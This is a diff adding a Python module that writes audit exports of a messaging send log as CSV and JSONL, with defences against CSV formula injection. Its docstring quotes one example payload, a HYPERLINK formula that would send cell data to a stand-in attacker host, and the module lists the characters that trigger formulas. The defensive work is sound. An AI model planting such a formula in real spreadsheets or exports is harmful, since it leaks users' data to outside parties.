@@ -1,0 +1,157 @@
+"""Audit exports of the send log: which rows, which columns, and the bytes of each format.
+
+A compliance officer exports their tenant's records to answer an auditor or a regulator
+(GDPR Art. 5(2), accountability; Art. 30, records of processing). An export shows
+exactly what the API shows: the columns are :data:`policies.records.LOG_FIELDS`, the
+names and order of an item of ``GET /communication/logs``, and every record passes the
+same exit (:func:`policies.disclosure.disclose`, or :func:`policies.disclosure.reveal`
+when the officer asked for a reveal the tenant's policy allows).
+
+Two formats:
+
+- **CSV** (RFC 4180): UTF-8 with a byte-order mark first, so that spreadsheets show
+  Chinese text correctly; a header row; every line ends with CRLF; a cell holding a
+  comma, a double quote, CR or LF is quoted and its quotes doubled; a ``null`` is an
+  empty cell. A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
+  return is written with a ``'`` in front (:func:`neutralised`): a spreadsheet would
+  otherwise run it as a formula (OWASP, "CSV Injection",
+  https://owasp.org/www-community/attacks/CSV_Injection). Content, errors and user ids
+  come from senders and providers, not from the officer, so any of them could be
+  ``=HYPERLINK("https://evil.example/?"&A1)``.
+- **JSONL**: one JSON object per line, LF-terminated, the shape of one item of the API's
+  list (``null`` kept). U+0085, U+2028 and U+2029 are written as escapes, so a reader
+  that splits lines on every Unicode line break still sees one record per line.
+
+Everything here is pure: records in, bytes out.
+"""
+
+from __future__ import annotations
+
+import csv
+import enum
+import io
+import re
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass
+from datetime import datetime
+
+import msgspec
+
+from policies.channels import Channel, DeliveryStatus
+from policies.disclosure import disclose, reveal
+from policies.instants import rfc3339
+from policies.records import LOG_FIELDS, SendRecord, shown_fields
+
+BYTE_ORDER_MARK = "\ufeff"
+FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
+"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""
+NEUTRALISER = "'"
+"""Put in front of a cell that begins with a trigger: spreadsheets show it as text."""
+
+
+class ExportFormat(enum.StrEnum):
+    """The file formats an export is written in."""
+
+    CSV = "csv"
+    JSONL = "jsonl"
+
+    @property
+    def media_type(self) -> str:
+        """The media type of a file of this format (CSV is sent as ``text/csv;
+        charset=utf-8``: the charset is added to every ``text/`` type)."""
+        return "text/csv" if self is ExportFormat.CSV else "application/x-ndjson"
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class ExportFilters:
+    """Which of one tenant's records an export holds: ``since <= created_at < until``,
+    and the channel, status and user when given. Rows come ordered by ``created_at``,
+    then ``id``."""
+
+    since: datetime | None = None
+    until: datetime | None = None
+    channel: Channel | None = None
+    status: DeliveryStatus | None = None
+    user_id: str | None = None
+
+    def problem(self) -> str | None:
+        """Why these filters select nothing by construction, or ``None``."""
+        if self.since is not None and self.until is not None and self.since > self.until:
+            return "'since' must not be later than 'until'"
+        return None
+
+    def describe(self) -> dict[str, str | None]:
+        """The filters as JSON-able data, for the audit event that records the export."""
+        return {
+            "since": None if self.since is None else rfc3339(self.since),
+            "until": None if self.until is None else rfc3339(self.until),
+            "channel": None if self.channel is None else self.channel.value,
+            "status": None if self.status is None else self.status.value,
+            "user_id": self.user_id,
+        }
+
+
+def neutralised(cell: str) -> str:
+    """``cell`` as a spreadsheet may open it: with :data:`NEUTRALISER` in front when it
+    begins with one of :data:`FORMULA_TRIGGERS` (OWASP CSV injection), else unchanged."""
+    if cell.startswith(FORMULA_TRIGGERS):
+        return NEUTRALISER + cell
+    return cell
+
+
+def csv_lines(rows: Iterable[Sequence[str | None]]) -> str:
+    """``rows`` as RFC 4180 lines (CRLF, minimal quoting), every cell neutralised; a
+    ``None`` is an empty cell."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
+    writer.writerows([["" if cell is None else neutralised(cell) for cell in row] for row in rows])
+    return buffer.getvalue()
+
+
+_LINE_BREAKS_IN_STRINGS = (
+    ("\u0085".encode(), b"\\u0085"),
+    ("\u2028".encode(), b"\\u2028"),
+    ("\u2029".encode(), b"\\u2029"),
+)
+
+
+def jsonl_line(fields: dict[str, str | None]) -> bytes:
+    """One JSON object and LF. The three Unicode line breaks JSON allows raw can only be
+    inside strings, so writing them as escapes changes no value."""
+    line = msgspec.json.encode(fields)
+    for raw, escaped in _LINE_BREAKS_IN_STRINGS:
+        if raw in line:
+            line = line.replace(raw, escaped)
+    return line + b"\n"
+
+
+def preamble(export_format: ExportFormat) -> bytes:
+    """What a file begins with before its first record: for CSV the byte-order mark and
+    the header row, for JSONL nothing."""
+    if export_format is ExportFormat.CSV:
+        return (BYTE_ORDER_MARK + csv_lines([LOG_FIELDS])).encode()
+    return b""
+
+
+def encode_records(
+    records: Iterable[SendRecord], export_format: ExportFormat, *, revealed: bool
+) -> bytes:
+    """``records`` through the one exit (:func:`disclose`, or :func:`reveal` when
+    ``revealed``) and encoded in ``export_format``; no preamble."""
+    exit_ = reveal if revealed else disclose
+    shown = [shown_fields(exit_(record)) for record in records]
+    if export_format is ExportFormat.CSV:
+        return csv_lines([list(fields.values()) for fields in shown]).encode()
+    return b"".join(jsonl_line(fields) for fields in shown)
+
+
+_UNSAFE_IN_FILENAME = re.compile(r"[^A-Za-z0-9_.-]+")
+
+
+def export_filename(tenant_id: str, export_format: ExportFormat, at: datetime) -> str:
+    """The name an export is offered under: ``communication-logs_<tenant>_<UTC time>.<ext>``,
+    with anything but ASCII letters, digits, ``_``, ``.``, ``-`` in the tenant id replaced
+    by ``_`` (it goes into a ``Content-Disposition`` header)."""
+    tenant = _UNSAFE_IN_FILENAME.sub("_", tenant_id)[:64] or "tenant"
+    stamp = rfc3339(at.replace(microsecond=0)).replace("-", "").replace(":", "")
+    return f"communication-logs_{tenant}_{stamp}.{export_format.value}"
